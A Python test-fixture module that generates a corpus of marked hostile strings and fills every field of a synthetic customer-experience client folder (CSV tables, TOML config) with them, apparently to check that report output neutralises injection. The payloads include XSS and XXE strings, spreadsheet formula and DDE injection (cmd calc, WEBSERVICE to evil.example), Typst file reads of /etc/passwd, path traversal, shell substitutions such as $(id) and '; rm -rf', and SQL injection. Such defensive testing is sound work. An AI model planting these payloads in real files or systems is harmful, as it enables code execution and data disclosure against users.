"""A generated corpus of hostile texts, and a client whose every text field is made of them."""

from __future__ import annotations

import csv
import itertools
import json
from collections.abc import Iterable, Sequence
from pathlib import Path

import numpy as np

from cxaudit import instruments

MARK = "zqx"  # stands in every text, so that a test finds what became of it

TAGS = (
    "<script>fetch('http://evil.example/{m}')</script>", "<img src=x onerror=alert('{m}')>", "<svg onload=alert('{m}')>", "<iframe src='http://evil.example/{m}'></iframe>",
    "</table></figure><h1>{m}</h1>", "<!-- {m} --><b>", "--><script>{m}</script><!--", "<!--number table {m}-->", "<!--see {m}-->", "<a href='javascript:{m}'>x</a>",
    "<style>@import 'http://evil.example/{m}'</style>", "<link rel=stylesheet href=//evil.example/{m}>", "<meta http-equiv=refresh content='0;url=http://evil.example/{m}'>", "<form action=//evil.example><input name={m}>",
    "\" onmouseover=\"alert('{m}')", "' onfocus='alert(\"{m}\")' autofocus='", "&lt;script&gt;{m}&lt;/script&gt;", "&#60;script&#62;{m}", "<![CDATA[{m}]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{m}</x>",
    "]]><x>{m}", "</title><script>{m}</script>", "</svg><script>{m}</script>", "<base href='http://evil.example/{m}/'>", "<object data='file:///etc/passwd'>{m}</object>",
)  # fmt: skip
TYPST = (
    "#eval(\"1+1\") {m}", "#read(\"/etc/passwd\") {m}", "#import \"@preview/{m}:1.0.0\"", "#include \"report.typ\" {m}", "#image(\"/etc/{m}.png\")", "$ sum_({m}) $", "= {m}", "@{m}", "<{m}>", "#set page(width: 1cm) // {m}",
    "*{m}* _x_ `y`", "\\u{{202e}} {m}", "/* {m}", "*/ {m}", "] #panic(\"{m}\") [", "\" + panic() + \" {m}", "\\ {m} \\", "\\\" {m}", "#let x = {m}", "~ -- --- ... {m}", "- {m}", "+ {m}", "/ {m}: x", "#link(\"http://evil.example/{m}\")[x]", "https://evil.example/{m}",
)  # fmt: skip
MARKDOWN = (
    "# {m}", "## {m}", "[{m}](http://evil.example)", "![{m}](http://evil.example/a.png)", "![{m}](file:///etc/passwd)", "<http://evil.example/{m}>", "`{m}`", "```\n{m}\n```", "| {m} | b |", "***{m}***", "> {m}", "1. {m}", "- [ ] {m}", "[{m}]: http://evil.example 'x'", "~~{m}~~",
)  # fmt: skip
SHEET = (
    "=1+1&\"{m}\"", "=HYPERLINK(\"http://evil.example/{m}\",\"x\")", "=cmd|' /C calc'!A1 {m}", "+cmd|' /C calc'!A0 {m}", "-2+3+cmd|' /C calc'!A0 {m}", "@SUM(1+1)*cmd|' /C calc'!A0 {m}", "=DDE(\"cmd\";\"/C calc\";\"{m}\")", "=WEBSERVICE(\"http://evil.example/{m}\")",
    "=IMPORTXML(\"http://evil.example/{m}\",\"//a\")", "=INDIRECT(\"{m}!A1\")", "\t=1+1 {m}", "\r=1+1 {m}", "\n=1+1 {m}", "{{=1+1}} {m}", "'=1+1 {m}", "\"=1+1 {m}", "%0A=1+1 {m}", "＝1+1 {m}", "＋1+1 {m}", "@{m}", "=LAMBDA(x,x)(\"{m}\")", "=_xlfn.{m}()", "mailto:{m}@evil.example", "internal:'{m}'!A1", "external:c:\\{m}.xlsx",
    "file:///etc/{m}", "ftp://evil.example/{m}", "http://evil.example/{m}?a=1#b", "[{m}]Sheet!A1", "_x0041_{m}", "&A&B{m}", "&G {m}",
)  # fmt: skip
TEMPLATES = (
    "{{{{ {m} }}}}", "{{{{ 7*7 }}}} {m}", "{{% for x in y %}}{m}", "{{# {m} #}}", "${{{m}}}", "#{{{m}}}", "<%= {m} %>", "{{n}} {m}", "{{n:2}} {m}", "{{}} {m}", "{{0}} {m}", "{{m.__class__}} {m}", "%s %d %(x)s {m}", "%n {m}", "{{ {m}", "}} {m}", "{{'{m}'}}", "`{{{m}}}`", "\\N{{BULLET}} {m}", "f'{{{m}}}'",
)  # fmt: skip
CONTROLS = (
    "\x1b[31m{m}\x1b[0m", "\x1b]8;;http://evil.example\x07{m}\x1b]8;;\x07", "\x1b[2J{m}", "{m}\x07\x08\x0b\x0c", "{m}\x7f", "{m}\x85\x9b31m", "\u202e{m}\u202c", "\u2066{m}\u2069", "\u200f{m}\u200e", "{m}\u200b\u200c\u200d\u2060", "\ufeff{m}", "{m}\u2028\u2029", "a\u0301\u0301\u0301\u0301{m}", "Z\u0310\u0311\u0312\u0313{m}", "{m}\u00ad\u00ad", "{m}\ufffe\uffff", "{m}\ufdd0", "\U000e0041{m}", "\u061c{m}", "{m}\u0000".replace("\u0000", "\u0001"),
    "\U0001f600{m}\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1f7\U0001f1fa{m}", "{m}\ufe0f\u20e3", "العربية {m} עברית", "日本語 {m} 한국어", "{m}\u0338\u0489", "ſ ﬁ Ω {m}", "İstanbul {m} ß", "{m} ٣٤٥ ４５", "\ue000{m}",
)  # fmt: skip
PATHS = (
    "../../{m}", "..\\..\\{m}", "/etc/passwd {m}", "C:\\Windows\\{m}", "\\\\evil.example\\{m}", "CON {m}", "{m}/../x", "{m}%2e%2e%2f", "~/{m}", "$HOME/{m}", "`id` {m}", "$(id) {m}", "; rm -rf {m}", "| cat {m}", "&& {m}", "{m}.pdf/", "{m}:x", "{m}?*", "<{m}|>", "-rf {m}", "--{m}",
)  # fmt: skip
ODD = (
    "NaN {m}", "null {m}", "None {m}", "-- {m}", "'; DROP TABLE {m};--", "\" OR 1=1 {m}", "1e999 {m}", "all", "attentive", "overall", "n", "{m} = a = b", "{m}/{m}", "{m}→{m}", "region=x/{m}", " {m} ", "{m}\u00a0", "№ {m}", "«{m}»", "„{m}“", "[{m}]", "({m}", "{m})", "{m}…", "a" * 300 + " {m}",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\u00a0", "\ufeff", '"', "'", ";", ",", "|", "%")
PREFIXED = tuple(f"{start}{call} {{m}}" for start in STARTS for call in ("SUM(A1)", "cmd|' /C calc'!A0"))
FAMILIES = {
    "html": TAGS,
    "typst": TYPST,
    "markdown": MARKDOWN,
    "sheet": SHEET,
    "templates": TEMPLATES,
    "signs": CONTROLS,
    "paths": PATHS,
    "odd": ODD,
    "prefixed": PREFIXED,
}


def corpus() -> list[str]:
    """Every hostile text once, each with a mark of its own, and one of 100,000 signs."""
    written = [text for family in FAMILIES.values() for text in family]
    marked = [text.format(m=f"{MARK}{i}") for i, text in enumerate(written)]
    return [*dict.fromkeys(marked), f"{MARK}long " + "<b>=1+1#x " * 10_000]


def client(folder: Path, texts: Sequence[str], seed: int = 1) -> Path:
    """A client folder with every table of the contract, its texts taken from the corpus in turn."""
    folder.mkdir(parents=True)
    rng, some = np.random.default_rng(seed), itertools.cycle(text for text in texts if len(text) < 1000)
    short = [next(some) for _ in range(len(texts))]

    def several(n: int) -> list[str]:
        """``n`` names that stay different when a table trims and a report tidies them."""
        return [f"{next(some)} {i}" for i in range(n)]

    survey(folder, texts, several, rng)
    people(folder, several, rng)
    journey(folder, several, rng)
    other_tables(folder, short, texts, several, rng)
    heading = f"=1+1 <script>{MARK}</script>"
    (folder / "client.toml").write_text(
        f"name = {json.dumps(next(some))}\nlanguages = ['en', 'ru']\nindustry = {json.dumps(texts[-1][:5000])}\n"
        f"[survey]\nsegments = [{json.dumps(heading)}, 'region']\nproblems = 'set aside'\n[complaints]\ncustomers = 900\n"
        f"[topics]\n{json.dumps(next(some))} = ['{MARK}']\n",
        encoding="utf-8",
    )
    return folder


def table(folder: Path, name: str, heads: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """A table as a CSV file."""
    with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([heads, *rows])


def survey(folder: Path, texts: Sequence[str], several, rng: np.random.Generator) -> None:
    columns = [*instruments.load_built_in("servqual").columns("E"), *instruments.load_built_in("servqual").columns("P")]
    heading, values, regions, n = f"=1+1 <script>{MARK}</script>", several(6), several(4), max(len(texts), 120)
    heads = ["respondent", "wave", heading, "region", "comment", f"unused {MARK} <b>", *columns, "nps"]
    table(folder, "survey", heads, (
        [f"{texts[i % len(texts)][:50]}{i}", "2026 <i>zqx</i>", values[i % 6], regions[i % 4], texts[i % len(texts)], "=2+2", *rng.integers(2, 8, len(columns)), rng.integers(0, 11)] for i in range(n)
    ))  # fmt: skip


def people(folder: Path, several, rng: np.random.Generator) -> None:
    names, skills, roles = several(6), several(5), several(2)
    raters = [("self", None), ("peer", "a"), ("manager", "b"), ("report", "c")]
    table(folder, "competencies", ["person", "role", "competency", "rater", "relation", "score"], (
        [person, roles[i % 2], skill, person if rater is None else f"{rater}{i}", relation, rng.integers(1, 11)]
        for i, person in enumerate(names) for skill in skills for relation, rater in raters
    ))  # fmt: skip
    table(folder, "targets", ["role", "competency", "target"], ([role, skill, 7] for role in roles for skill in skills))
    table(
        folder,
        "readiness",
        ["statement", "respondent", "answer"],
        ([f"R{i}.{j}", name, rng.integers(1, 6)] for i in range(1, 6) for j in range(1, 6) for name in names),
    )


def journey(folder: Path, several, rng: np.random.Generator) -> None:
    points, channels, owners = several(8), several(3), several(2)
    stages = ["preboarding", "onboarding", "relationship", "reboarding"]
    table(
        folder,
        "touchpoints",
        ["touchpoint", "stage", "channel", "owner", "order"],
        ([p, stages[i % 4], channels[i % 3], owners[i % 2], i] for i, p in enumerate(points)),
    )
    table(folder, "experience", ["customer", "touchpoint", "satisfaction", "effort", "comment"], (
        [f"c{c}", p, rng.integers(1, 11), rng.integers(1, 8), several(1)[0]] for c in range(12) for p in points
    ))  # fmt: skip
    table(folder, "pain_points", ["pain_point", "touchpoint", "description", "affected", "base", "severity", "effort_to_fix", "evidence", "owner"], (
        [name, points[i], several(1)[0], 20 + i, 60, 8, 2, several(1)[0], owners[0]] for i, name in enumerate(several(6))
    ))  # fmt: skip
    table(folder, "events", ["customer", "time", "touchpoint", "channel", "outcome"], (
        [f"c{c}", f"2026-10-{1 + i:02d} 10:00", points[int(rng.integers(0, 8))], channels[int(rng.integers(0, 3))], ""] for c in range(20) for i in range(4)
    ))  # fmt: skip


def other_tables(folder: Path, short: Sequence[str], texts: Sequence[str], several, rng: np.random.Generator) -> None:
    table(folder, "complaints", ["customer", "date", "topic", "product", "text"], (
        [f"c{i}", f"2026-0{1 + i % 9}-11", topic, short[i % 5], texts[i % len(texts)]] for i, topic in enumerate(short)
    ))  # fmt: skip
    teams, managers, actions, rules = several(3), several(3), several(2), several(3)
    table(
        folder,
        "actions",
        ["team", "manager", "action", "count", "period"],
        ([t, managers[i], a, 100, "2026-10"] for i, t in enumerate(teams) for a in actions),
    )
    table(folder, "quality", ["team", "manager", "employee", "action", "date", "criterion", "passed", "checker", "comment"], (
        [teams[i % 3], managers[i % 3], "e", actions[i % 2], "2026-10-05", rules[i % 3], int(rng.random() < 0.6), "x", several(1)[0]] for i in range(90)
    ))  # fmt: skip
    table(
        folder,
        "trust",
        ["customer", "contract", "competence", "communication"],
        ([f"c{i}", *rng.integers(1, 11, 3)] for i in range(40)),
    )
    table(folder, "obligations", ["id", "side", "customer", "what", "promised", "due", "done", "blocks"], (
        [f"o{i}", ("us", "client")[i % 2], f"c{i}", several(1)[0], "2026-08-01", "2026-09-01", "", short[i % 3]] for i in range(12)
    ))  # fmt: skip
    goals, owners = several(2), several(2)
    table(folder, "goals", ["goal", "subgoal", "kpi", "unit", "better", "baseline", "target", "actual", "owner", "due", "measures"], (
        [goals[i % 2], "", kpi, several(1)[0], "higher", 10, 50, 20, owners[i % 2], "2026-12-31", ""] for i, kpi in enumerate(several(6))
    ))  # fmt: skip
    products, segments = several(2), several(2)
    table(folder, "outcomes", ["customer", "product", "segment", "start", "end"], (
        [f"c{i}", products[i % 2], segments[i % 2], f"2026-0{1 + i % 6}-01", "2026-08-01" if i % 4 == 0 else ""] for i in range(80)
    ))  # fmt: skip
